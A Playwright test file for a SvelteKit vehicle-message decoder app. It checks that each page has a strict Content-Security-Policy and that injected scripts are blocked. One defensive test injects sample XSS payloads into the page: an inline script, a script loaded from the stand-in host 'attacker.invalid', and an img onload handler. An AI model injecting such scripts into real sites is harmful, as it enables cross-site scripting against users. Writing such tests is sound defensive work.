import { expect, test, type Page } from '@playwright/test';
import { ready, watchErrors } from './helpers';

// Issue 16, point 6: every built page carries a Content-Security-Policy (svelte.config.js, a
// <meta http-equiv> SvelteKit writes with the hash of its bootstrap script) that lets the app do
// all it does and nothing else: no page breaks it, and a script injected into a page is refused.

/** Records every CSP violation the page reports (the init script runs before the page's own, outside its policy). */
async function watchViolations(page: Page) {
	await page.addInitScript(() => {
		const w = window as unknown as { cspViolations: string[] };
		w.cspViolations = [];
		document.addEventListener('securitypolicyviolation', (e) => w.cspViolations.push(`${e.effectiveDirective} ${e.blockedURI} at ${e.sourceFile}:${e.lineNumber}`));
	});
}
/** A BSM in T/CSAE 53-2020 UPER (the inspect spec's, encoded by our own encoder). */
const UPER_BSM = '0000e8682a460606060625dc09ab8c3c161749e7e83e87081f41f41fdfffc00b41e00280';

const violations = (page: Page) => page.evaluate(() => (window as unknown as { cspViolations: string[] }).cspViolations);

/** The page's policy as directive → sources. */
async function policy(page: Page): Promise<Map<string, string[]>> {
	const content = await page.locator('meta[http-equiv="content-security-policy"]').getAttribute('content');
	expect(content, 'the page has a CSP meta').toBeTruthy();
	return new Map(content!.split(';').map((d) => d.trim().split(/\s+/)).map(([k, ...v]) => [k, v]));
}

/** Each page, opened the way its tests open it, and what says it is up and running. */
const PAGES: { url: string; up: (page: Page) => Promise<void> }[] = [
	{ url: '/?tiles=none', up: ready },
	{ url: '/inspect', up: (p) => p.locator('[data-ready="true"]').waitFor() },
	{ url: '/captures', up: (p) => p.locator('[data-ready="true"]').waitFor() },
	{ url: '/reference', up: (p) => p.locator('[data-ready="true"]').waitFor() },
	{ url: '/learn', up: (p) => expect(p.locator('a.card').first()).toBeVisible() },
	{ url: '/selftest?seconds=1&vehicles=5', up: (p) => expect(p.getByTestId('selftest')).toHaveAttribute('data-state', 'done', { timeout: 30_000 }) }
];

for (const { url, up } of PAGES) {
	test(`${url}: a strict CSP, and the page runs within it`, async ({ page }) => {
		const errors = watchErrors(page);
		await watchViolations(page);
		await page.goto(url);
		await up(page);
		const p = await policy(page);
		expect(p.get('script-src')?.slice(0, 2)).toEqual(["'self'", "'wasm-unsafe-eval'"]);
		// only hashes beside them: no 'unsafe-inline', no 'unsafe-eval', no host
		expect(p.get('script-src')!.slice(2).every((s) => /^'sha256-[A-Za-z0-9+/=]+'$/.test(s))).toBe(true);
		expect(p.get('object-src')).toEqual(["'none'"]);
		expect(p.get('base-uri')).toEqual(["'self'"]);
		expect(p.get('default-src')).toEqual(["'self'"]);
		expect(p.get('worker-src')).toEqual(["'self'"]);
		expect(p.get('connect-src')).toEqual(["'self'", 'ws:', 'wss:']);
		// uper/per/compiled.ts reads the policy and uses the table walk without probing `new Function`
		expect(await violations(page)).toEqual([]);
		expect(errors).toEqual([]);
	});
}

test('a script injected into a page is refused, inline or from another host', async ({ page }) => {
	await watchViolations(page);
	await page.goto('/inspect');
	await page.locator('[data-ready="true"]').waitFor();
	await page.evaluate(() => {
		const inline = document.createElement('script');
		inline.textContent = 'window.pwned = "inline"';
		document.head.append(inline);
		const foreign = document.createElement('script');
		foreign.src = 'https://attacker.invalid/x.js';
		document.head.append(foreign);
		const img = document.createElement('div');
		// an event handler attribute, as markup injected by innerHTML would carry
		img.innerHTML = '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="window.pwned = \'handler\'">';
		document.body.append(img);
	});
	await expect.poll(async () => (await violations(page)).length).toBeGreaterThanOrEqual(3);
	const seen = await violations(page);
	expect(seen.some((v) => v.startsWith('script-src-elem inline'))).toBe(true);
	expect(seen.some((v) => v.startsWith('script-src-elem https://attacker.invalid/x.js'))).toBe(true);
	expect(seen.some((v) => v.startsWith('script-src-attr inline'))).toBe(true);
	expect(await page.evaluate(() => (window as unknown as { pwned?: string }).pwned)).toBeUndefined();
});

test('UPER on the page without `new Function`: the table walk reads a frame', async ({ page }) => {
	await watchViolations(page);
	await page.goto('/inspect');
	await page.locator('[data-ready="true"]').waitFor();
	await page.getByTestId('bytes-input').fill(UPER_BSM);
	await expect(page.getByTestId('encoding')).toHaveValue('csae53-2020');
	await expect(page.locator('[data-testid="bit-field"][data-path="bsmFrame.pos.lat"]')).toContainText('39.7900000°');
	expect(await violations(page)).toEqual([]);
});
